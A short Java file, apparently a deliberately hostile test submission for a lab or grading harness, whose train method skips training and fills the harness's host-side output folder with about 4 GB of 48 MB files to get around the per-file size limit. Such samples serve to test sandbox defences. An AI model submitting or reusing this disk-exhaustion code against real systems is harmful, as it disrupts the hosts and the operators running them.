import java.nio.file.Files;
import java.nio.file.Path;
import org.nnlab.api.LabContext;
import org.nnlab.api.LabSolution;

/**
 * Hostile: fills the harness's output folder, the one folder it may write that lies on the host's disk, with 48 MB
 * files (each under the file size limit), up to 4 GB.
 */
public class Solution implements LabSolution {
    @Override
    public void train(LabContext ctx) throws Exception {
        String[] arguments = ProcessHandle.current().info().arguments().orElseThrow();
        Path output = Path.of(arguments[arguments.length - 1]).getParent().resolveSibling("output");
        byte[] block = new byte[48 << 20];
        for (int i = 0; i < 85; i++) {
            Files.write(output.resolve("fill-" + i), block);
        }
    }
}
